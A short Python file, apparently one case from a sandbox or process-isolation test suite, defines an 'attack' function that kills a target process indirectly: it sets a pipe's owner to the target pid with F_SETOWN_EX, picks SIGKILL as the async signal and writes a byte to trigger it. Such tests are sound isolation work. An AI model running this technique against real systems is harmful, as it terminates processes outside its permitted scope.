# The same through a pipe, F_SETOWN_EX and SIGKILL as the chosen signal.
# proof: outside
import fcntl
import os
import struct


def attack(arg):
    reader, writer = os.pipe()
    fcntl.fcntl(reader, 15, struct.pack("ii", 1, arg["pid"]))
    fcntl.fcntl(reader, fcntl.F_SETSIG, 9)
    fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(writer, b"x")
    return True
